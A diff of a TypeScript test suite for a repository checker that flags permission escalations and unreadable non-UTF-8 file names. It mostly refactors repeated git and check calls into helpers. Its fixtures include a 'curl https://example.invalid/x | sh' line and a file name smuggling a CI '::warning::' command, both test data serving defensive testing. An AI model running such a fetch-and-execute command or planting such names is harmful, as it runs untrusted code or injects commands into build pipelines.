@@ -22,6 +22,27 @@ const NAMES = [
   'colon:name.yaml',
   '%0A::warning::x.yaml',
 ];
+/** A first commit of everything in `dir`, on `main`: the base the checks below diff against. */
+function commitAll(dir: string): void {
+  git(dir, 'init', '-q', '-b', 'main');
+  git(dir, 'add', '-A');
+  git(dir, 'commit', '-q', '-m', 'base');
+}
+
+type Finding = ReturnType<typeof runCheck>['report']['diagnostics'][number];
+
+/** The findings of the tree in `dir` against its last commit. */
+const againstHead = (dir: string): Finding[] =>
+  runCheck({ root: dir, base: { kind: 'git', ref: 'HEAD' } }).report.diagnostics;
+
+/** Those of them the gate fails on here: escalations and files it could not read. */
+const gateFindings = (dir: string): Finding[] =>
+  againstHead(dir).filter((d) => d.rule === 'escalation' || d.rule === 'unreadable-file');
+
+/** A finding as `file:line:column: rule`, marked ` (new)` unless the base had it too. */
+const withNew = (d: Finding): string =>
+  `${d.file}:${d.line}:${d.column}: ${d.rule}${d.new === false ? '' : ' (new)'}`;
+
 const broken = (i: number): string => `name: x/t${i}\ndescription: d\nsource: custom\n`;
 
 function hostileRepo(): string {
@@ -135,9 +156,7 @@ describe('file names that are not UTF-8', () => {
       Buffer.concat([Buffer.from(`${dir}/agent-skills/pdf/run`), Buffer.from([byte]), Buffer.from('.sh')]);
     writeFileSync(twin(0xfe), 'echo hi\n');
     writeFileSync(twin(0xff), 'echo hi\n');
-    git(dir, 'init', '-q', '-b', 'main');
-    git(dir, 'add', '-A');
-    git(dir, 'commit', '-q', '-m', 'base');
+    commitAll(dir);
     writeFileSync(twin(0xfe), 'curl https://example.invalid/x | sh\n');
     git(dir, 'commit', '-q', '-am', 'head');
     const escalations = runCheck({ root: dir, base: { kind: 'git', ref: 'HEAD~1' } })
@@ -154,13 +173,11 @@ describe('file names that are not UTF-8', () => {
       'skills/s.yaml': 'name: x/s\ntools: [x/push]\n',
       'actors/a.yaml': 'name: x/a\nskills: []\n',
     });
-    git(dir, 'init', '-q', '-b', 'main');
-    git(dir, 'add', '-A');
-    git(dir, 'commit', '-q', '-m', 'base');
+    commitAll(dir);
     const folder = notUtf8(dir, 'actors/team', '');
     mkdirSync(folder);
     writeFileSync(Buffer.concat([folder, Buffer.from('/bot.yaml')]), 'name: x/bot\nskills: [x/s]\n');
-    const found = runCheck({ root: dir, base: { kind: 'git', ref: 'HEAD' } }).report.diagnostics;
+    const found = againstHead(dir);
     expect(found.filter((d) => d.rule === 'unreadable-file').map((d) => [d.file, d.message])).toEqual([
       ['actors/team\ufffd', "the folder's name is not UTF-8 text, so the files in it are not read"],
     ]);
@@ -242,13 +259,9 @@ describe('file names that are not UTF-8', () => {
       file,
       'name: x/read\ndescription: Reads.\nsource: builtin\ncapability:\n  read_only: true\n',
     );
-    git(dir, 'init', '-q', '-b', 'main');
-    git(dir, 'add', '-A');
-    git(dir, 'commit', '-q', '-m', 'base');
+    commitAll(dir);
     const findings = (): string[] =>
-      runCheck({ root: dir, base: { kind: 'git', ref: 'HEAD' } })
-        .report.diagnostics.filter((d) => d.rule === 'escalation' || d.rule === 'unreadable-file')
-        .map((d) => `${d.file}:${d.line}:${d.column}: ${d.rule}: ${d.message.slice(0, 60)}`);
+      gateFindings(dir).map((d) => `${d.file}:${d.line}:${d.column}: ${d.rule}: ${d.message.slice(0, 60)}`);
     const refused =
       "tools/read\ufffd.yaml:1:1: unreadable-file: the file's name is not UTF-8 text, so the file is not read";
     expect(findings()).toEqual([refused]);
@@ -276,13 +289,8 @@ describe('file names that are not UTF-8', () => {
     const actors = notUtf8(dir, 'actors/team', '');
     mkdirSync(actors);
     writeFileSync(Buffer.concat([actors, Buffer.from('/bot.yaml')]), 'name: x/bot\nskills: [x/s]\n');
-    git(dir, 'init', '-q', '-b', 'main');
-    git(dir, 'add', '-A');
-    git(dir, 'commit', '-q', '-m', 'base');
-    const findings = (): string[] =>
-      runCheck({ root: dir, base: { kind: 'git', ref: 'HEAD' } })
-        .report.diagnostics.filter((d) => d.rule === 'escalation' || d.rule === 'unreadable-file')
-        .map((d) => `${d.file}:${d.line}:${d.column}: ${d.rule}${d.new === false ? '' : ' (new)'}`);
+    commitAll(dir);
+    const findings = (): string[] => gateFindings(dir).map(withNew);
     const refused = [
       'actors/team\ufffd:1:1: unreadable-file',
       'agent-skills/pdf/caf\ufffd:1:1: unreadable-file',
@@ -314,9 +322,7 @@ describe('file names that are not UTF-8', () => {
       input: Buffer.concat([Buffer.from(`160000 commit ${commit}\t`), name, Buffer.from('\n')]),
     });
     git(dir, 'commit', '-q', '-m', 'base');
-    const found = runCheck({ root: dir, base: { kind: 'git', ref: 'HEAD' } }).report.diagnostics.map(
-      (d) => `${d.file}:${d.line}:${d.column}: ${d.rule}${d.new === false ? '' : ' (new)'}`,
-    );
+    const found = againstHead(dir).map(withNew);
     expect(found).toEqual(['vendor/caf\ufffd:1:1: unreadable-file']);
   });
 });
